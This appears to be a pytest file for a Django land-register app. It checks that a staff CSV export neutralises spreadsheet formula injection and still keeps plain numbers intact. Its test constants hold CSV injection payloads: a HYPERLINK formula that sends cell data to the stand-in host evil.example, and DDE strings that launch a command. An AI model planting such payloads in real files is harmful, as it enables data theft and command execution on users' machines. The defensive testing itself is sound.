"""`/foncier/export.csv` (staff) neutralises the cells a spreadsheet would evaluate (issue 14)."""

import csv
import io

import pytest

from tests.factories import make_organisation, make_premises

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def test_the_land_export_neutralises_formulas_and_keeps_numbers(staff_client):
    third_place = make_organisation(MINUS, kinds=("tiers-lieu",))
    make_premises(
        HYPERLINK,
        street=CALC,
        owner_name=SUM,
        city="\r=1+1",
        surface_m2=1200,
        third_place=third_place,
    )
    make_premises("Friche de Fives", street="-3.5", owner_name="SPL Euralille")

    response = staff_client.get("/foncier/export.csv")

    assert response.status_code == 200
    header, *rows = csv.reader(
        io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"
    )
    assert all(len(row) == len(header) for row in rows)
    evil, fives = sorted(
        (dict(zip(header, row, strict=True)) for row in rows),
        key=lambda row: row["proprietaire"] == "SPL Euralille",
    )
    assert evil["nom"] == "'" + HYPERLINK
    assert evil["adresse"] == "'" + CALC
    assert evil["proprietaire"] == "'" + SUM
    assert evil["commune"] == "'\r=1+1"
    assert evil["tiers_lieu"] == "'" + MINUS
    assert evil["surface_m2"] == "1200"
    assert (fives["nom"], fives["adresse"]) == ("Friche de Fives", "-3.5")
